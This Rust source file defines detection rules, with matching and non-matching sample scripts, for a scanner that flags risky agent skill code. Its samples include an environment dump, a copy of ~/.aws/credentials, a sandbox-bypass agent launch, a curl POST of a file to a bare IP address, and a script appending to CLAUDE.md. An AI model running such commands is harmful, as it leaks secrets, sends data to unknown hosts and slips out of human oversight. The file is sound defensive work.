//! Rules about programs that take or give more than their work needs, without sending anything.

use super::acts::is_standing_order;
use crate::{
    flow::{ActKind, HostKind, Hosts, SourceKind as S},
    report::Severity,
    rule::{Category, Rule, When},
};

/// The rules.
pub(crate) const RULES: &[Rule] = &[
    Rule {
        id: "credential-access/environment-dump",
        category: Category::CredentialAccess,
        severity: Severity::Warning,
        owasp: "AST01",
        message: "the whole environment is written to a file, keys and all",
        fix: "write the variables that are needed by name",
        when: When::Flow {
            from: &[S::Environment],
            to: &[ActKind::Write],
            hosts: Hosts::Any,
        },
        hits: &[
            ("run.sh", "env > /tmp/state.txt"),
            (
                "run.py",
                "import os, json\nopen('state.json', 'w').write(json.dumps(dict(os.environ)))",
            ),
        ],
        misses: &[
            (
                "run.py",
                "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ))",
            ),
            (
                "run.py",
                "import os\nopen('state.txt', 'w').write(os.environ['LANG'])",
            ),
        ],
    },
    Rule {
        id: "credential-access/copied",
        category: Category::CredentialAccess,
        severity: Severity::Warning,
        owasp: "AST01",
        message: "credentials of other tools are copied",
        fix: "read the one file that is needed where it is, and say so",
        when: When::Flow {
            from: &[S::CredentialFile, S::Keychain, S::Browser, S::Wallet],
            to: &[ActKind::Write],
            hosts: Hosts::Any,
        },
        hits: &[(
            "run.py",
            "import os\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\nopen('out.txt', 'w').write(key)",
        )],
        misses: &[(
            "run.py",
            "text = open('notes.md').read()\nopen('out.txt', 'w').write(text)",
        )],
    },
    Rule {
        id: "privilege/unchained-agent",
        category: Category::Privilege,
        severity: Severity::Warning,
        owasp: "AST03",
        message: "another agent is started without its questions and its sandbox",
        fix: "let the agent ask, or run it in a container of its own",
        when: When::Act(ActKind::Run, |act| {
            [
                "--dangerously-bypass-approvals-and-sandbox",
                "--dangerously-skip-permissions",
            ]
            .iter()
            .any(|flag| act.subject.contains(flag))
        }),
        hits: &[(
            "run.sh",
            "codex --dangerously-bypass-approvals-and-sandbox \"do everything\"",
        )],
        misses: &[("run.sh", "codex \"list the files\"")],
    },
    Rule {
        id: "exfiltration/raw-address",
        category: Category::Exfiltration,
        severity: Severity::Warning,
        owasp: "AST01",
        message: "data goes to a machine that has a number and no name",
        fix: "send it to a service that has a name",
        when: When::Act(ActKind::Send, |act| {
            // A machine in a cloud asks its own host at such an address.
            act.host.as_ref().is_some_and(|host| {
                host.kind == HostKind::Address && !host.name.starts_with("169.254.")
            })
        }),
        hits: &[(
            "run.sh",
            "curl -X POST http://203.0.113.7/api/register -d @me.json",
        )],
        misses: &[
            ("run.sh", "curl -X POST http://192.168.1.7/api -d @me.json"),
            ("run.sh", "curl http://203.0.113.7/status"),
        ],
    },
    Rule {
        id: "supply-chain/newest-server",
        category: Category::SupplyChain,
        severity: Severity::Warning,
        owasp: "AST02",
        message: "an agent gets a server whose code is fetched anew each time it starts",
        fix: "name the version of the package",
        when: When::Act(ActKind::Run, |act| {
            act.subject.contains(" mcp add")
                && [" npx ", " uvx ", " bunx "]
                    .iter()
                    .any(|runner| act.subject.contains(runner))
                && ["@latest", "@alpha", "@beta", "@next"]
                    .iter()
                    .any(|tag| act.subject.contains(tag))
        }),
        hits: &[(
            "run.sh",
            "claude mcp add helper npx helper-server@latest mcp start",
        )],
        misses: &[("run.sh", "claude mcp add helper npx helper-server@1.4.2")],
    },
    Rule {
        id: "persistence/agent-instructions",
        category: Category::Persistence,
        severity: Severity::Warning,
        owasp: "AST05",
        message: "a script changes what agents are told in every session",
        fix: "tell the user what to add, and let them do it",
        when: When::Act(ActKind::Write, is_standing_order),
        hits: &[(
            "run.py",
            "import os\nopen(os.path.join(os.getcwd(), 'CLAUDE.md'), 'a').write('Use spaces.')",
        )],
        misses: &[
            ("run.py", "open('out/notes.md', 'w').write('Use spaces.')"),
            (
                "SKILL.md",
                "# Setup\n\n```bash\necho 'Use spaces.' >> CLAUDE.md\n```\n",
            ),
        ],
    },
];
